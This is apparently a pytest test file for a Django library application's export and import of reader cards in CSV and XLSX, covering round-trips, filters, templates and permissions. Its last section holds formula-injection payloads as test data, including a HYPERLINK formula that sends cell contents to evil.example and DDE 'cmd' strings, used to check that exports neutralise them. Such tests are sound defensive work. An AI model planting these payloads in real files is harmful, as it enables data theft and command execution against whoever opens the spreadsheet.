"""Export of reader cards and the import template: the same columns the import reads."""
import csv
import io

import pytest
from django.urls import include, path
from openpyxl import load_workbook

from backend.config.urls import urlpatterns as site_urlpatterns
from backend.readers.imports import columns, import_readers
from backend.readers.models import Reader
from tests.factories import BranchFactory, ReaderFactory, ReaderPhoneFactory
from tests.readers.test_import import csv_bytes, reader_cells

urlpatterns = [path("api/v1/", include("backend.readers.urls_io")), *site_urlpatterns]
pytestmark = pytest.mark.urls(__name__)

EXPORT = "/api/v1/readers/export/"
TEMPLATE = "/api/v1/readers/import/template/"


def varied_rows(code: str) -> list[dict]:
    return [
        reader_cells(code, 1, phone2="8 7152 123456", phone2_kind="home", phone2_sms="no",
                     phone3="+7 777 000 11 22", phone3_kind="caregiver", elevator="yes",
                     entrance="2", door_code="12К", landmark="за школой",
                     access_notes="Звонить дважды; собака", preferred_authors="Абай; Толстой",
                     preferred_formats="large_print; audio", preferred_languages="kk; ru",
                     never_send="Война и мир; 978-601-00-0000-0",
                     caregiver_name="Айгуль", caregiver_relation="дочь",
                     caregiver_phone="8 701 555 44 33", document_valid_until="31.12.2027"),
        reader_cells(code, 2, category="Ветеран", status="closed", language="ru",
                     elevator="нет", lat="", lon="", floor="", availability="",
                     preferred_subjects="", document_type="", document_number=""),
        reader_cells(code, 3, consent_date="", birth_date="", phone1="", phone1_kind="",
                     phone1_sms="", patronymic="", category="Пожилой"),
    ]


def parse_csv(content: bytes) -> list[dict]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def parse_xlsx(content: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def download(client, url, **params) -> bytes:
    response = client.get(url, params)
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def without_card_number(rows: list[dict]) -> list[dict]:
    return [{k: v for k, v in row.items() if k != "card_number"} for row in rows]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_imports_back_unchanged(api, kind):
    branch = BranchFactory(code="BSH")
    report = import_readers(content=csv_bytes(varied_rows(branch.code)), filename="a.csv")
    assert report.ok, report.errors
    client = api.as_role("librarian")
    parse = parse_csv if kind == "csv" else parse_xlsx

    first = download(client, EXPORT, format=kind)
    Reader.objects.all().delete()
    report = import_readers(content=first, filename=f"export.{kind}")
    assert report.ok, report.errors
    assert report.created == 3
    second = download(client, EXPORT, format=kind)

    assert without_card_number(parse(second)) == without_card_number(parse(first))
    assert [r["card_number"] for r in parse(second)] != [r["card_number"] for r in parse(first)]


def test_export_columns_and_values(api, branch):
    import_readers(content=csv_bytes(varied_rows(branch.code)), filename="a.csv")
    response = api.as_role("librarian").get(EXPORT, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    assert "attachment" in response["Content-Disposition"]
    rows = parse_csv(b"".join(response.streaming_content))
    assert list(rows[0]) == columns()
    first = next(r for r in rows if r["last_name"] == "Ахметова1")
    reader = Reader.objects.get(last_name="Ахметова1")
    assert first["card_number"] == reader.card_number
    assert first["branch"] == branch.code
    # A leading "+" is a formula to a spreadsheet: phones are written quoted.
    assert (first["phone1"], first["phone2"], first["phone2_kind"], first["phone2_sms"]) == (
        "'+77010000001", "'+77152123456", "home", "no")
    assert first["availability"] == "Tu 10:00-13:00; Th 14:00-17:00"
    assert first["preferred_authors"] == "Абай; Толстой"
    assert first["document_valid_until"] == "2027-12-31"
    assert first["elevator"] == "yes"


def test_export_applies_the_list_filters(api, branch):
    import_readers(content=csv_bytes(varied_rows(branch.code)), filename="a.csv")
    other = BranchFactory(code="SOK")
    ReaderFactory(branch=other, last_name="Соколова")
    client = api.as_role("librarian")
    rows = parse_csv(download(client, EXPORT, format="csv", status="closed"))
    assert [r["last_name"] for r in rows] == ["Ахметова2"]
    rows = parse_csv(download(client, EXPORT, format="csv", branch=other.id))
    assert [r["last_name"] for r in rows] == ["Соколова"]
    rows = parse_csv(download(client, EXPORT, format="csv", q="ахметова3"))
    assert [r["last_name"] for r in rows] == ["Ахметова3"]


def test_a_search_exports_every_match_not_the_desks_first(api, branch):
    from backend.core.search import SEARCH_MATCHES_MAX

    ReaderFactory.create_batch(SEARCH_MATCHES_MAX + 1, branch=branch, last_name="Садыкова")
    ReaderFactory(branch=branch, last_name="Петрова")
    client = api.as_role("librarian")
    listed = client.get("/api/v1/readers/", {"q": "садыкова"})
    assert listed.status_code == 200
    assert listed.json()["count"] == SEARCH_MATCHES_MAX
    rows = parse_csv(download(client, EXPORT, format="csv", q="садыкова"))
    assert len(rows) == SEARCH_MATCHES_MAX + 1
    assert {r["last_name"] for r in rows} == {"Садыкова"}


def test_more_phones_get_more_columns_and_import_back(api, branch):
    reader = ReaderFactory(branch=branch)
    for n in range(4):
        ReaderPhoneFactory(reader=reader, number=f"+7701000000{n}", position=n)
    content = download(api.as_role("librarian"), EXPORT, format="xlsx")
    rows = parse_xlsx(content)
    assert rows[0]["phone4"] == "'+77010000003"
    Reader.objects.all().delete()
    report = import_readers(content=content, filename="e.xlsx")
    assert report.ok, report.errors
    assert Reader.objects.get().phones.count() == 4


def test_reimporting_an_export_skips_the_cards_already_on_file(api, branch):
    import_readers(content=csv_bytes(varied_rows(branch.code)), filename="a.csv")
    content = download(api.as_role("librarian"), EXPORT, format="csv")
    report = import_readers(content=content, filename="e.csv")
    assert (report.created, report.skipped) == (0, 3)
    assert {d.column for d in report.duplicates} == {"card_number"}
    assert Reader.objects.count() == 3


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_template_has_the_import_columns(api, kind):
    content = download(api.as_role("librarian"), TEMPLATE, format=kind)
    if kind == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.decode("utf-8-sig").strip() == ";".join(columns())
        return
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    assert workbook.sheetnames[1] == "Справка"
    header = next(workbook.worksheets[0].iter_rows(values_only=True))
    assert list(header) == columns()
    described = [row[0] for row in workbook["Справка"].iter_rows(min_row=2, values_only=True)]
    for column in columns():
        assert column in described or column.replace("2", "1").replace("3", "1") in described
    help_text = " ".join(str(c) for row in workbook["Справка"].iter_rows(values_only=True)
                         for c in row if c)
    assert "disability_2" in help_text and "Инвалидность II группы" in help_text


def test_filled_template_imports(api, branch):
    template = download(api.as_role("librarian"), TEMPLATE, format="csv")
    buffer = io.StringIO()
    cells = reader_cells(branch.code, 1)
    csv.writer(buffer, delimiter=";").writerow([cells.get(c, "") for c in columns()])
    report = import_readers(content=template + buffer.getvalue().encode("utf-8"),
                            filename="t.csv")
    assert report.ok, report.errors
    assert report.created == 1


@pytest.mark.parametrize("role", ["operator", "coordinator", "volunteer"])
@pytest.mark.parametrize("url", [EXPORT, TEMPLATE])
def test_only_librarians_export(api, branch, role, url):
    ReaderFactory(branch=branch)
    response = api.as_role(role).get(url, {"format": "csv"})
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"


def test_unknown_format_is_a_field_error(api):
    response = api.as_role("librarian").get(EXPORT, {"format": "pdf"})
    assert response.status_code == 400
    assert response.json()["code"] == "validation_error"
    assert "format" in response.json()["fields"]


# Formula injection: text that a spreadsheet would run is written as text ----------------------

FORMULAS = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "first_name": "=cmd|' /C calc'!A0",
    "patronymic": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street": "+1+1",
    "house": "-2+3",
    "door_code": "=1+1",
    "landmark": "@A1",
    "access_notes": "-1+cmd|' /C calc'!A0",
    "caregiver_name": "=2+5",
    "document_number": "+7-МСЭ",
}


def _cell_rows(content: bytes, kind: str) -> list[dict]:
    """Each exported row as {column: (value, XLSX data type or None for CSV)}."""
    if kind == "csv":
        return [{k: (v, None) for k, v in row.items()} for row in parse_csv(content)]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [{h: (c.value, c.data_type) for h, c in zip(header, row, strict=False)}
            for row in rows[1:]]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_text_a_spreadsheet_would_run_is_exported_as_text(api, branch, kind):
    reader = ReaderFactory(branch=branch, floor=-2, caregiver_relation="\t=1+1",
                           apartment="\r=1+1", **FORMULAS)
    ReaderPhoneFactory(reader=reader, number="+77011234567", position=0)

    content = download(api.as_role("librarian"), EXPORT, format=kind)

    [row] = _cell_rows(content, kind)
    texts = {**FORMULAS, "phone1": "+77011234567", "caregiver_relation": "\t=1+1",
             "apartment": "\r=1+1"}
    for column, text in texts.items():
        value, data_type = row[column]
        assert value.startswith("'"), column
        if kind == "xlsx":
            assert data_type == "s", column  # a string cell, never a formula ("f")
            text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert value == "'" + text, column
    # A number is not text: a floor below ground stays the number -2, unquoted.
    assert row["floor"] == ((-2, "n") if kind == "xlsx" else ("-2", None))
    assert row["last_name"][0] != reader.last_name


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_like_text_survives_export_and_import_unchanged(api, branch, kind):
    cells = reader_cells(branch.code, 1, preferred_authors="=Абай; -Толстой",
                         never_send="@Война и мир", **FORMULAS)
    report = import_readers(content=csv_bytes([cells]), filename="a.csv")
    assert report.ok, report.errors
    client = api.as_role("librarian")

    first = download(client, EXPORT, format=kind)
    Reader.objects.all().delete()
    report = import_readers(content=first, filename=f"export.{kind}")
    assert report.ok, report.errors
    second = download(client, EXPORT, format=kind)

    reader = Reader.objects.get()
    assert {column: getattr(reader, column) for column in FORMULAS} == FORMULAS
    assert str(reader.phones.get().number) == "+77010000001"
    assert reader.preferences["authors"] == ["=Абай", "-Толстой"]
    assert reader.preferences["never_send"] == ["@Война и мир"]
    parse = parse_csv if kind == "csv" else parse_xlsx
    assert parse(first)[0]["last_name"] == "'" + FORMULAS["last_name"]
    assert without_card_number(parse(second)) == without_card_number(parse(first))
